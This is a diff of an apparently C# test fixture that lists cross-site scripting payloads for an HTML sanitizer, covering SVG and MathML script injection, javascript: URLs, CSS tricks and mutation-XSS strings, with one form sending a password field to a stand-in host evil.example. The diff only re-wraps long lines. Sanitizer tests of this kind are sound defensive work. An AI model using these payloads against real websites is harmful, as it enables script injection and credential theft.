@@ -41,7 +41,8 @@ internal static class Attacks
         "<div style=\"background:u\\72l(https://evil.example/x)\">x</div>",
         "<div style=\"width:expression(pwned())\">x</div>",
         "<div style=\"-moz-binding:url(x)\">x</div>",
-        "<form action=https://evil.example><input name=password><button formaction=javascript:pwned()>x</button></form>",
+        "<form action=https://evil.example><input name=password><button "
+            + "formaction=javascript:pwned()>x</button></form>",
         "<svg onload=pwned()></svg>",
         "<svg><script>pwned()</script></svg>",
         "<svg><script href=\"data:,pwned()\"/></svg>",
@@ -49,7 +50,8 @@ internal static class Attacks
         "<svg><animate attributeName=href values=javascript:pwned() /></svg>",
         "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
         "<svg><set attributeName=onmouseover to=pwned()></svg>",
-        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>#x\"/></svg>",
+        "<svg><use href=\"data:image/svg+xml,<svg id='x' "
+            + "xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>#x\"/></svg>",
         "<svg><image href=https://evil.example/x.png /></svg>",
         "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
         "<svg><rect fill=\"url(https://evil.example/x#y)\"/></svg>",
@@ -60,7 +62,8 @@ internal static class Attacks
         "<math><a xlink:href=javascript:pwned()>x</a></math>",
         "<math href=\"javascript:pwned()\"><mi>x</mi></math>",
         "<math><mi href=\"javascript:pwned()\" xlink:href=\"javascript:pwned()\">x</mi></math>",
-        "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:pwned()\">x</maction></math>",
+        "<math><maction actiontype=\"statusline#http://evil.example\" "
+            + "xlink:href=\"javascript:pwned()\">x</maction></math>",
         "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=pwned()></annotation-xml></math>",
         "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned()&gt;\">",
         "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
